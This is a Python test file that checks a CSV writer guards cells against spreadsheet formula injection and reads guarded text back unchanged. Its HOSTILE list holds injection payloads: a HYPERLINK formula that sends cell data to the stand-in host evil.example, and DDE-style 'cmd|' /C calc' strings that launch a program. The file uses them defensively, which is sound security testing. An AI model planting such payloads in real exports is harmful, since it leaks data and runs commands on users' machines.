"""No text is taken for a formula by a spreadsheet, and every text is read back as it was."""

import csv

import pytest
from hypothesis import given, strategies as st

from likewise.cells import guard_cell, read_cell
from likewise.cli.tables import write_table as write_command_table
from likewise.formats.csv_table import write_csv
from likewise.formats.rows import ClusterRow, Snapshot
from likewise.formats.table_reading import open_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''-x",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_written_as_text_and_read_back(tmp_path, text):
    path = tmp_path / "clusters.csv"
    write_csv(Snapshot("leaves", clusters=[ClusterRow(0, f"{text}.jpg", 3, text, "found")]), path)
    with open(path, newline="", encoding="utf-8") as file:
        cells = list(csv.reader(file))[1]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    _, rows, problems = open_table(path)
    assert problems == []
    assert (rows[0][1]["path"], rows[0][1]["name"]) == (f"{text}.jpg", text)
    write_command_table(("item", "cluster"), [(text, -1)], path)
    with open(path, newline="", encoding="utf-8") as file:
        assert list(csv.reader(file))[1] == [f"'{text}", "-1"]


@given(st.text(st.sampled_from("'=+-@\t\r1.ex ,\"\n")) | st.text())
def test_every_text_is_read_back_as_it_was(text):
    assert read_cell(guard_cell(text)) == text


def test_numbers_stay_numbers():
    assert [guard_cell(value) for value in (-1, -0.5, "-1.5e-3", "+7", None)] == [-1, -0.5, "-1.5e-3", "+7", None]
